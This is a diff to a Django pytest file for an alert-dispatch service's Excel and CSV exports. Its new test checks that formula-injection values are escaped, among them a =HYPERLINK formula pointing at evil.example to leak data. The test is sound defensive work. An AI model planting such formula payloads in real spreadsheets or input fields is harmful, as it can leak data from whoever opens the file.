@@ -109,7 +109,8 @@ def test_sending_creates_recipients_in_one_insert(
 ):
     for number in range(20):
         OrganisationFactory(name=f"批量单位{number}", parent=district["town"])
-    with django_assert_max_num_queries(8):
+    # The ninth query is the dispatch's audit entry.
+    with django_assert_max_num_queries(9):
         dispatch = services.send_alert(case, reviewer, district["town"])
     assert dispatch.recipients.count() == 23
 
@@ -303,15 +304,16 @@ def test_export_to_excel_and_csv(client, district, people, case, reviewer):
     client.force_login(reviewer)
     xlsx = client.get(f"/manage/alerts/dispatches/{dispatch.pk}/export.xlsx")
     assert xlsx.status_code == 200
-    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content)).active
+    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(xlsx.streaming_content))).active
     rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
     assert rows[0][0] == case.title
     assert rows[3][:4] == ["单位", "类型", "状态", "确认人"]
     assert ["示例群租房管理点", "社会单位", "已阅知", "李管理"] in [row[:4] for row in rows]
 
     response = client.get(f"/manage/alerts/dispatches/{dispatch.pk}/export.csv")
-    assert response.content.startswith(b"\xef\xbb\xbf")
-    lines = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    content = b"".join(response.streaming_content)
+    assert content.startswith(b"\xef\xbb\xbf")
+    lines = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
     assert lines[0][0] == "单位"
     assert len(lines) == 4
     assert {line[2] for line in lines[1:]} == {"已阅知", "未阅知"}
@@ -444,3 +446,27 @@ def test_a_large_scope_lists_only_organisations_with_others_below(
     assert listed < every
     assert all(organisation.numchild > 0 for organisation in form.fields["root"].queryset)
     assert "只列出" in str(form.fields["root"].help_text)
+
+
+@pytest.mark.django_db
+def test_a_manager_named_like_a_formula_is_text_in_the_dispatch_exports(
+    client, district, people, case, reviewer
+):
+    hostile = '=HYPERLINK("http://evil.example/?leak","点我")'
+    manager = people["rental_manager"]
+    manager.name = hostile
+    manager.save()
+    Organisation.objects.filter(pk=district["charging"].pk).update(name="-2+3\x07")
+    dispatch = services.send_alert(case, reviewer, district["town"])
+    services.acknowledge(dispatch.recipients.get(organisation=district["rental"]), manager)
+    client.force_login(reviewer)
+    xlsx = client.get(f"/manage/alerts/dispatches/{dispatch.pk}/export.xlsx")
+    assert xlsx.status_code == 200
+    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(xlsx.streaming_content))).active
+    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row}
+    assert cells[hostile].data_type == "s" and cells["-2+3"].data_type == "s"
+    response = client.get(f"/manage/alerts/dispatches/{dispatch.pk}/export.csv")
+    lines = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
+    values = {value for line in lines for value in line}
+    assert "'" + hostile in values and "'-2+3" in values
+    assert hostile not in values
